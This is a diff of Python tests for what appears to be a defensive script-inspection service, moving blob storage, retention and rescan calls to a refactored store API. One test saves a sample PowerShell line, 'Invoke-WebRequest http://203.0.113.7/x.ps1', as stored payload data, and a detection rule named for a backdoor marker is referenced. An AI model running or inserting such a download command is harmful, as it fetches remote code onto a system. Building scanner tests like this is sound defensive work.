@@ -93,9 +93,9 @@ async def store(blob_backend: str, tmp_path: Path, backend_settings: dict[str, A
 
 
 async def _save(store: Store, inspection_id: str, data: bytes, days_ago: float = 0) -> None:
-    await store.create_inspection(inspection_id, "script", {}, None, None)
-    await store.save_verdict(inspection_id, make_verdict(inspection_id, [data]), blobs_of([data]))
-    async with store.engine.begin() as conn:
+    await store.inspections.create(inspection_id, "script", {}, None, None)
+    await store.inspections.save_verdict(inspection_id, make_verdict(inspection_id, [data]), blobs_of([data]))
+    async with store.database.engine.begin() as conn:
         await conn.execute(payloads.update().where(payloads.c.sha256 == _sha(data))
                            .values(last_seen=datetime.now(UTC) - timedelta(days=days_ago)))
 
@@ -172,8 +172,8 @@ async def test_inventory_lists_every_blob_with_its_size_and_age(store: Store) ->
 
 async def test_verdicts_store_their_bytes_in_the_backend(store: Store) -> None:
     await _save(store, "i1", b"Invoke-WebRequest http://203.0.113.7/x.ps1")
-    assert await store.get_blob(_sha(b"Invoke-WebRequest http://203.0.113.7/x.ps1")) is not None
-    info = await store.get_payload(_sha(b"Invoke-WebRequest http://203.0.113.7/x.ps1"))
+    assert await store.payloads.get_bytes(_sha(b"Invoke-WebRequest http://203.0.113.7/x.ps1")) is not None
+    info = await store.payloads.get(_sha(b"Invoke-WebRequest http://203.0.113.7/x.ps1"))
     assert info is not None and info.blob_available
 
 
@@ -183,11 +183,11 @@ async def test_retention_by_age_and_size_frees_backend_bytes(blob_backend: str, 
         await _save(store, "ancient", b"A" * 100, days_ago=40)
         await _save(store, "older", b"B" * 100, days_ago=5)
         await _save(store, "newest", b"C" * 100, days_ago=1)
-        report = await store.apply_retention()
+        report = await store.retention.apply()
         assert report.expired_payloads == 2 and report.freed_bytes == 200 and report.blob_bytes_kept == 100
-        assert await store.get_blob(_sha(b"A" * 100)) is None and await store.get_blob(_sha(b"B" * 100)) is None
-        assert await store.get_blob(_sha(b"C" * 100)) == b"C" * 100
-        stored = await store.get_inspection("ancient")
+        assert await store.payloads.get_bytes(_sha(b"A" * 100)) is None and await store.payloads.get_bytes(_sha(b"B" * 100)) is None
+        assert await store.payloads.get_bytes(_sha(b"C" * 100)) == b"C" * 100
+        stored = await store.inspections.get("ancient")
         assert stored is not None and stored.verdict is not None  # verdict history stays
 
 
@@ -195,8 +195,8 @@ async def test_unreferenced_blobs_are_swept_only_after_the_grace_period(store: S
     stray, kept = b"written, then its transaction failed", b"referenced by a verdict"
     store.blobs.put_sync(_sha(stray), stray)
     await _save(store, "kept", kept)
-    assert (await store.apply_retention()).orphan_blobs_removed == 0  # too young: maybe being saved now
-    report = await store.apply_retention(now=datetime.now(UTC) + timedelta(hours=2))
+    assert (await store.retention.apply()).orphan_blobs_removed == 0  # too young: maybe being saved now
+    report = await store.retention.apply(now=datetime.now(UTC) + timedelta(hours=2))
     assert report.orphan_blobs_removed == 1 and report.blob_bytes_kept == len(kept)
     assert await store.blobs.get(_sha(stray)) is None and await store.blobs.get(_sha(kept)) == kept
 
@@ -218,8 +218,9 @@ rule acme_backdoor_marker
 async def test_rescan_worker_processes_read_the_bytes_from_the_backend(
         blob_backend: str, tmp_path: Path, backend_settings: dict[str, Any]) -> None:
     """The batch scan runs in a spawned worker process, which reads blobs through the sync core."""
-    from inspector.rescan.runner import LocalBatchRunner, run_rescan, start_rescan
     from inspector.rescan.scanner import ArtifactScanner
+    from inspector.service.rescan_service import run_rescan, start_rescan
+    from inspector.tasks.batch_runner import LocalBatchRunner
 
     rules = tmp_path / "rules"
     rules.mkdir()
@@ -243,7 +244,7 @@ async def test_rescan_worker_processes_read_the_bytes_from_the_backend(
 
 
 async def test_the_blobs_table_exists_on_every_database(store: Store) -> None:
-    async with store.engine.connect() as conn:
+    async with store.database.engine.connect() as conn:
         assert await conn.scalar(sa.select(sa.func.count()).select_from(blobs_table)) == 0
 
 
